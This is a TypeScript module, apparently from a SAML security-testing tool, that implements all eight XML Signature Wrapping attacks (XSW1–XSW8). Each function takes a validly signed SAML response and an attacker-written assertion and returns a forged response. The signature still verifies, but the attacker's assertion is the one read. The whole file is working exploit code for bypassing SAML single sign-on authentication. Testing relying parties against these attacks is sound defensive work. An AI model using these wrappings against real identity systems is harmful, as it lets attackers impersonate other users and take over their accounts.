/**
 * Signature wrapping (XSW): a signed message is kept somewhere where its signature still verifies, and another one is put where it is
 * read. The eight ways are those of Somorovsky et al., “On Breaking SAML: Be Whoever You Want to Be” (USENIX Security 2012), by the
 * numbers of SAML Raider.
 */

/** What an attacker has: a response whose assertion is signed (`response` too where the way needs it), and what they want to be read. */
export interface Loot {
  /** A signed response with a signed assertion in it. */
  readonly signedResponse: string;
  /** A response with a signed assertion in it, itself not signed. */
  readonly response: string;
  /** An assertion of the attacker's own, not signed. */
  readonly evil: string;
}

const signature = /<Signature [\s\S]*?<\/Signature>/;
const assertion = /<saml:Assertion [\s\S]*<\/saml:Assertion>/;
const declaration = /^<\?xml[^>]*\?>\s*/;

export const wrappings: Readonly<Record<string, (loot: Loot) => string>> = {
  "XSW1: the signed response goes into its own signature, and another response around them": ({ signedResponse, evil }) => {
    const [ofResponse, original] = taken(signedResponse);
    const within = ofResponse.replace("</Signature>", `${original}</Signature>`);
    return replaced(evilResponse(signedResponse, evil), "<samlp:Status>", `${within}<samlp:Status>`);
  },
  "XSW2: the signed response stands beside its signature, in another response": ({ signedResponse, evil }) => {
    const [ofResponse, original] = taken(signedResponse);
    return replaced(evilResponse(signedResponse, evil), "<samlp:Status>", `${original}${ofResponse}<samlp:Status>`);
  },
  "XSW3: another assertion stands before the signed one": ({ response, evil }) => response.replace(assertion, (whole) => `${evil}${whole}`),
  "XSW4: the signed assertion is within another one": ({ response, evil }) =>
    response.replace(assertion, (whole) => replaced(evil, "</saml:Assertion>", `${whole}</saml:Assertion>`)),
  "XSW5: the signed assertion is changed, and what it was stands at the end": ({ response, evil }) =>
    response.replace(assertion, (whole) => `${withSignature(evil, signatureOf(whole))}${whole.replace(signature, "")}`),
  "XSW6: the signed assertion is changed, and what it was stands within its signature": ({ response, evil }) =>
    response.replace(assertion, (whole) => {
      const within = signatureOf(whole).replace("</Signature>", `${whole.replace(signature, "")}</Signature>`);
      return withSignature(evil, within);
    }),
  "XSW7: another assertion stands in extensions before the signed one": ({ response, evil }) =>
    response.replace(assertion, (whole) => `<samlp:Extensions>${evil}</samlp:Extensions>${whole}`),
  "XSW8: the signed assertion stands in an object of the signature of another one": ({ response, evil }) =>
    response.replace(assertion, (whole) => {
      const object = `<Object>${whole.replace(signature, "")}</Object>`;
      return withSignature(evil, signatureOf(whole).replace("</Signature>", `${object}</Signature>`));
    }),
};

function signatureOf(xml: string): string {
  const found = signature.exec(xml)?.[0];
  if (found === undefined) throw new Error("there is no signature to wrap");
  return found;
}

/** The signature of the outermost element, and the element without it. */
function taken(xml: string): readonly [string, string] {
  const ofResponse = signatureOf(xml);
  return [ofResponse, xml.replace(declaration, "").replace(ofResponse, "")];
}

/** The same response with another id and the attacker's assertion. */
function evilResponse(signedResponse: string, evil: string): string {
  const [, original] = taken(signedResponse);
  return original.replace(/ ID="[^"]*"/, ' ID="_evil-response"').replace(assertion, evil);
}

function withSignature(xml: string, added: string): string {
  return replaced(xml, "</saml:Issuer>", `</saml:Issuer>${added}`);
}

/** The text is there: a wrapping that changes nothing would prove nothing. */
function replaced(xml: string, text: string, by: string): string {
  if (!xml.includes(text)) throw new Error(`${text} is not there`);
  return xml.replace(text, () => by);
}
